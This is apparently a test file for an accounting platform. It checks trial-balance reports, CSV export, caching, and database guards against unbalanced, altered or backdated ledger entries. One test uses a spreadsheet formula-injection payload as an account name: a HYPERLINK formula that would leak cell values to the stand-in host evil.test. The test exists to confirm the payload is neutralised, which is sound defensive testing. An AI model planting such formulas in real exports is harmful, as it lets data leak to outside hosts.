// The trial balance, and the database guarding the ledger by itself.
import { Transactions } from '../src/database/unit-of-work';
import { postEntry } from '../src/ledger/ledger';
import { Decimal } from '@ledgerline/ledger-rules';
import { accountIds, created, expectFieldError, JOURNALS, type JournalEntry } from '@ledgerline/testing';
import { startTestPlatform, type TestBusiness, type TestPlatform } from './harness';

let platform: TestPlatform;
beforeAll(async () => {
  platform = await startTestPlatform();
});
afterAll(() => platform.close());

describe('trial balance', () => {
  it('nets to zero, reads as of a date, and comes as CSV', async () => {
    const business = await platform.createBusiness({ baseCurrency: 'KWD' });
    const ids = await accountIds(business.sandbox, 'code');
    await created(business.sandbox, JOURNALS, {
      date: '2026-01-15',
      lines: [
        { account_id: ids['1010'], debit: '500.125' },
        { account_id: ids['3000'], credit: '500.125' },
      ],
    });
    await created(business.sandbox, JOURNALS, {
      date: '2026-02-15',
      lines: [
        { account_id: ids['6000'], debit: '20' },
        { account_id: ids['1010'], credit: '20' },
      ],
    });

    const now = await business.sandbox.get('/api/v1/reports/trial-balance');
    expect(now.status).toBe(200);
    expect(now.body.data).toMatchObject({ currency: 'KWD', totals: { debit: '500.125', credit: '500.125' } });
    expect(now.body.data.rows).toEqual([
      { account_id: ids['1010'], code: '1010', name: 'Bank', type: 'asset', subtype: 'bank', debit: '480.125', credit: '0.000' },
      { account_id: ids['3000'], code: '3000', name: "Owner's Equity", type: 'equity', subtype: 'owners_equity', debit: '0.000', credit: '500.125' },
      { account_id: ids['6000'], code: '6000', name: 'General Expenses', type: 'expense', subtype: 'general_expense', debit: '20.000', credit: '0.000' },
    ]);
    const january = await business.sandbox.get('/api/v1/reports/trial-balance?as_of=2026-01-31');
    expect(january.body.data.rows.map((r: { code: string; debit: string; credit: string }) => [r.code, r.debit, r.credit])).toEqual([
      ['1010', '500.125', '0.000'],
      ['3000', '0.000', '500.125'],
    ]);
    expect((await business.sandbox.get('/api/v1/reports/trial-balance?as_of=2025-12-31')).body.data).toMatchObject({
      rows: [],
      totals: { debit: '0.000', credit: '0.000' },
    });

    const csv = await business.sandbox.get('/api/v1/reports/trial-balance?as_of=2026-01-31', { headers: { accept: 'text/csv' } });
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.text).toBe(
      'row,account_id,code,name,type,subtype,debit,credit\r\n' +
        `account,${ids['1010']},1010,Bank,asset,bank,500.125,0.000\r\n` +
        `account,${ids['3000']},3000,Owner's Equity,equity,owners_equity,0.000,500.125\r\n` +
        'total,,,Total,,,500.125,500.125\r\n',
    );
    expectFieldError(await business.sandbox.get('/api/v1/reports/trial-balance?as_of=yesterday'), 'as_of');
  });

  it('writes account names that look like formulas as text in the CSV, amounts as numbers', async () => {
    const business = await platform.createBusiness();
    const ids = await accountIds(business.sandbox, 'code');
    const formula = '=HYPERLINK("https://evil.test/?leak="&E2&E3,"Cash")';
    for (const [code, name] of [
      ['1000', formula],
      ['3000', '-Owner'],
      ['6000', '@SUM(A1)'],
      ['7000', '+1'],
    ]) {
      expect((await business.sandbox.put(`/api/v1/coa/accounts/${ids[code]}`, { name })).status).toBe(200);
    }
    await created(business.sandbox, JOURNALS, {
      date: '2026-01-10',
      lines: [
        { account_id: ids['1000'], debit: '12.50' },
        { account_id: ids['3000'], credit: '12.50' },
      ],
    });
    await created(business.sandbox, JOURNALS, {
      date: '2026-01-11',
      lines: [
        { account_id: ids['6000'], debit: '1' },
        { account_id: ids['7000'], debit: '1' },
        { account_id: ids['4100'], credit: '2' },
      ],
    });
    // (Names are trimmed, so one cannot start with a tab or a line break: the unit spec covers those.)

    const csv = await business.sandbox.get('/api/v1/reports/trial-balance?as_of=2026-01-31', { headers: { accept: 'text/csv' } });
    expect(csv.status).toBe(200);
    expect(csv.text.split('\r\n')).toEqual([
      'row,account_id,code,name,type,subtype,debit,credit',
      `account,${ids['1000']},1000,"'=HYPERLINK(""https://evil.test/?leak=""&E2&E3,""Cash"")",asset,cash,12.50,0.00`,
      `account,${ids['3000']},3000,'-Owner,equity,owners_equity,0.00,12.50`,
      `account,${ids['4100']},4100,Other Income,income,other_income,0.00,2.00`,
      `account,${ids['6000']},6000,'@SUM(A1),expense,general_expense,1.00,0.00`,
      `account,${ids['7000']},7000,'+1,expense,exchange_gain_loss,1.00,0.00`,
      'total,,,Total,,,14.50,14.50',
      '',
    ]);
  });

  it('is answered again from the read cache until the business records an event: a posting or an account change shows at once', async () => {
    const business = await platform.createBusiness();
    const ids = await accountIds(business.sandbox, 'code');
    await created(business.sandbox, JOURNALS, {
      date: '2026-01-15',
      lines: [
        { account_id: ids['1010'], debit: '5' },
        { account_id: ids['3000'], credit: '5' },
      ],
    });
    const report = () => business.sandbox.get('/api/v1/reports/trial-balance?as_of=2026-12-31');
    const rows = async () =>
      (await report()).body.data.rows.map((r: { code: string; name: string; debit: string; credit: string }) => [r.code, r.name, r.debit, r.credit]);
    expect(await rows()).toEqual([
      ['1010', 'Bank', '5.00', '0.00'],
      ['3000', "Owner's Equity", '0.00', '5.00'],
    ]);
    // Changed behind the API's back (no event): the report read before is answered again.
    await platform.db.query("UPDATE accounts SET name = 'Bank (SQL)' WHERE id = $1", [ids['1010']]);
    expect((await rows())[0]).toEqual(['1010', 'Bank', '5.00', '0.00']);

    await business.sandbox.put(`/api/v1/coa/accounts/${ids['3000']}`, { name: 'Capital' });
    expect(await rows()).toEqual([
      ['1010', 'Bank (SQL)', '5.00', '0.00'],
      ['3000', 'Capital', '0.00', '5.00'],
    ]);
    await created(business.sandbox, JOURNALS, {
      date: '2026-02-15',
      lines: [
        { account_id: ids['6000'], debit: '2' },
        { account_id: ids['1010'], credit: '2' },
      ],
    });
    expect(await rows()).toEqual([
      ['1010', 'Bank (SQL)', '3.00', '0.00'],
      ['3000', 'Capital', '0.00', '5.00'],
      ['6000', 'General Expenses', '2.00', '0.00'],
    ]);
  });
});

describe('the database itself guards the ledger', () => {
  let business: TestBusiness;
  let ids: Record<string, string>;
  let entry: JournalEntry;
  beforeAll(async () => {
    business = await platform.createBusiness();
    ids = await accountIds(business.sandbox, 'code');
    entry = await created<JournalEntry>(business.sandbox, JOURNALS, {
      date: '2026-08-01',
      lines: [
        { account_id: ids['1000'], debit: '10' },
        { account_id: ids['4100'], credit: '10' },
      ],
    });
  });

  async function rawEntry(lines: { accountId: string; debit: string; credit: string; date?: string }[]): Promise<void> {
    await platform.db.transaction(async (tx) => {
      const [{ id }] = await tx.query(
        `INSERT INTO journal_entries (id, business_id, environment, date, currency, exchange_rate, source_type) VALUES (gen_random_uuid(), $1, 'sandbox', '2026-08-02', 'USD', 1, 'manual') RETURNING id`,
        [business.businessId],
      );
      for (const [index, line] of lines.entries()) {
        await tx.query(
          `INSERT INTO journal_lines (id, business_id, environment, entry_id, date, line_no, account_id, debit, credit, base_debit, base_credit) VALUES (gen_random_uuid(), $1, 'sandbox', $2, $7, $3, $4, $5, $6, $5, $6)`,
          [business.businessId, id, index + 1, line.accountId, line.debit, line.credit, line.date ?? '2026-08-02'],
        );
      }
    });
  }

  it('refuses an unbalanced entry, even from raw SQL', async () => {
    await expect(
      rawEntry([
        { accountId: ids['1000'], debit: '5', credit: '0' },
        { accountId: ids['4100'], debit: '0', credit: '4' },
      ]),
    ).rejects.toThrow(/unbalanced/);
  });

  it('refuses an entry of one line, and one of no lines at all', async () => {
    await expect(rawEntry([{ accountId: ids['1000'], debit: '0', credit: '0' }])).rejects.toThrow(/fewer than two lines/);
    await expect(rawEntry([])).rejects.toThrow(/fewer than two lines/);
  });

  it('refuses to update or delete a posted line or entry', async () => {
    await expect(platform.db.query('UPDATE journal_lines SET debit = 11, base_debit = 11 WHERE entry_id = $1 AND debit > 0', [entry.id])).rejects.toThrow(
      /not allowed/,
    );
    await expect(platform.db.query('DELETE FROM journal_lines WHERE entry_id = $1', [entry.id])).rejects.toThrow(/not allowed/);
    await expect(platform.db.query('DELETE FROM journal_entries WHERE id = $1', [entry.id])).rejects.toThrow(/not allowed/);
  });

  it('refuses a line dated other than its entry', async () => {
    await expect(
      rawEntry([
        { accountId: ids['1000'], debit: '5', credit: '0' },
        { accountId: ids['4100'], debit: '0', credit: '5', date: '2026-08-03' },
      ]),
    ).rejects.toThrow(/foreign key/);
  });

  it("refuses a line on another business's account", async () => {
    const other = await platform.createBusiness();
    const otherCash = (await accountIds(other.sandbox, 'code'))['1000'];
    await expect(
      rawEntry([
        { accountId: otherCash, debit: '5', credit: '0' },
        { accountId: ids['4100'], debit: '0', credit: '5' },
      ]),
    ).rejects.toThrow(/foreign key/);
  });

  it('refuses a posting dated on or before the lock date, and postEntry reports it as the API does (400 on date)', async () => {
    await platform.db.query("UPDATE business_environments SET lock_date = '2026-08-31' WHERE business_id = $1 AND environment = 'sandbox'", [
      business.businessId,
    ]);
    const lines = [
      { accountId: ids['1000'], debit: new Decimal(1), credit: new Decimal(0), baseDebit: new Decimal(1), baseCredit: new Decimal(0) },
      { accountId: ids['4100'], debit: new Decimal(0), credit: new Decimal(1), baseDebit: new Decimal(0), baseCredit: new Decimal(1) },
    ];
    const posting = { date: '2026-08-31', memo: null, currency: 'USD', exchangeRate: new Decimal(1), sourceType: 'manual' as const, sourceId: null, lines };
    const scope = { businessId: business.businessId, environment: 'sandbox' as const };
    await expect(new Transactions(platform.db).run((tx) => postEntry(tx, scope, posting))).rejects.toMatchObject({
      code: 'validation_failed',
      errors: [{ field: 'date' }],
    });
    await expect(
      rawEntry([
        { accountId: ids['1000'], debit: '5', credit: '0' },
        { accountId: ids['4100'], debit: '0', credit: '5' },
      ]),
    ).rejects.toThrow(/lock date/);
    await platform.db.query("UPDATE business_environments SET lock_date = NULL WHERE business_id = $1 AND environment = 'sandbox'", [business.businessId]);
  });

  it('keeps every balance equal to the sum of its lines', async () => {
    const mismatched = await platform.db.query(
      `SELECT a.id FROM accounts a LEFT JOIN (SELECT account_id, sum(base_debit - base_credit) AS net FROM journal_lines GROUP BY account_id) l ON l.account_id = a.id
        WHERE a.balance <> coalesce(l.net, 0)`,
    );
    expect(mismatched).toEqual([]);
  });
});
